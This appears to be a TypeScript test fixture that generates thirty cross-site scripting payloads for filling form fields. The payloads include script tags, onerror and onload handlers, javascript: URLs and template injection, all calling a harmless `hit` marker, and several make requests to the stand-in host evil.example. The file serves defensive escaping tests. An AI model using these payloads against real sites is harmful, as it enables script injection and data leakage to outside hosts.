/** The thirty ways in which a text tries to become a script, each around a call of `hit` with a name of its own. */
const ways: readonly ((call: string, name: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `--><script>${call}</script>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `" autofocus onfocus="${call}`,
  (call) => `x' onmouseover='${call.replaceAll("'", '"')}`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<input autofocus onfocus=${call}>`,
  (_call, name) => `<style>@import'//evil.example/${name}'</style>`,
  (_call, name) => `<link rel=stylesheet href=//evil.example/${name}>`,
  (_call, name) => `<img src=//evil.example/${name}>`,
  (_call, name) => `<base href=//evil.example/${name}/>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `javascript:${call}`,
  (call) => `[here](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `\${${call}}`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
]

/** One hostile text for a field. It calls `hit`, or asks evil.example for something, with the field's name and its number. */
export function hostileText(field: string, number: number): string {
  const name = `${field}${number % ways.length}`
  return ways[number % ways.length]?.(`hit('${name}')`, name) ?? ''
}

/** All of them in one text, for fields that hold so much. */
export function allHostileTexts(field: string): string {
  return ways.map((_way, number) => hostileText(field, number)).join(' ')
}

/** All of them in a few texts, for fields that hold some hundred characters. */
export function someHostileTexts(field: string): string[] {
  const texts = ways.map((_way, number) => hostileText(field, number))
  return [0, 8, 16, 24].map((from) => texts.slice(from, from + 8).join(' '))
}

/** One for each number, for things of which there may be many. */
export function eachHostileText<Made>(
  field: string,
  make: (text: string, number: number) => Promise<Made>,
): Promise<Made[]> {
  return Promise.all(ways.map((_way, number) => make(hostileText(field, number), number)))
}
